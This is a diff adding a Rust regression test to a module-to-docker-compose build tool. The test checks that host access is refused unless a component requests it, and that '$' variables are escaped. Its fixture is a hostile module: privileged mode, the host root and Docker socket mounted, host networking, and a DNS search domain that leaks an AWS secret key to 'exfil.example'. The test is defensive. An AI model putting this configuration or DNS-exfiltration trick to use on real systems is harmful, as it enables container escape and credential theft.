@@ -588,3 +588,70 @@ fn the_staging_directory_of_a_killed_render_is_swept_by_the_next() {
     assert!(!stale.exists(), "the killed render's directory stays");
     assert!(live.exists(), "a running render's directory was removed");
 }
+
+/// Issue 42, finding 7: the compose provider passed host access through (`/` and the Docker
+/// socket mounted, the host network, `privileged`) with exit 0 and nothing on stderr, and left
+/// `$` for `docker compose up` to fill in from the deployer's environment in `image`, `dns` and
+/// more. Host access is refused unless the component asks for it, and no `$` of a module reaches
+/// compose unescaped.
+#[test]
+fn compose_output_cannot_reach_the_host_unasked_nor_the_deployers_environment() {
+    let dir = tempfile::tempdir().unwrap();
+    let hostile = |labels: &str| {
+        format!(
+            "apiVersion: core.opm.dev/v1
+kind: Module
+metadata: {{name: grab, version: 0.1.0}}
+components:
+  web:
+    metadata: {{labels: {{{labels}}}}}
+    resources:
+      Container:
+        image: 'nginx:$${{GITHUB_TOKEN:-none}}'
+        volumeMounts: {{root: {{mountPath: /host}}, sock: {{mountPath: /var/run/docker.sock}}}}
+        securityContext: {{privileged: true}}
+      Volumes:
+        root: {{hostPath: {{path: /}}}}
+        sock: {{hostPath: {{path: /var/run/docker.sock}}}}
+    traits:
+      PodNetwork: {{hostNetwork: true, dnsConfig: {{searches: ['$AWS_SECRET_ACCESS_KEY.exfil.example']}}}}
+"
+        )
+    };
+    let module = write_file(dir.path(), "module.yaml", &hostile(""));
+    let run = opm(["mod", "build", &module, "-p", "docker-compose", "--strict"]);
+    assert!(run.exited(1), "{}", run.stderr);
+    assert!(
+        run.stderr.contains("security.opm.dev/host-access"),
+        "{}",
+        run.stderr
+    );
+    assert_eq!(run.stdout, "");
+
+    let module = write_file(
+        dir.path(),
+        "module.yaml",
+        &hostile("security.opm.dev/host-access: 'true'"),
+    );
+    let run = opm(["mod", "build", &module, "-p", "docker-compose"]);
+    assert!(run.exited(0), "{}", run.stderr);
+    let unescaped = run
+        .stdout
+        .match_indices('$')
+        .filter(|(at, _)| {
+            let before = run.stdout[..*at].ends_with('$');
+            let after = run.stdout[at + 1..].starts_with('$');
+            !before && !after
+        })
+        .count();
+    assert_eq!(
+        unescaped, 0,
+        "a `$` compose would interpolate:\n{}",
+        run.stdout
+    );
+    assert!(
+        run.stdout.contains("$${GITHUB_TOKEN:-none}"),
+        "{}",
+        run.stdout
+    );
+}
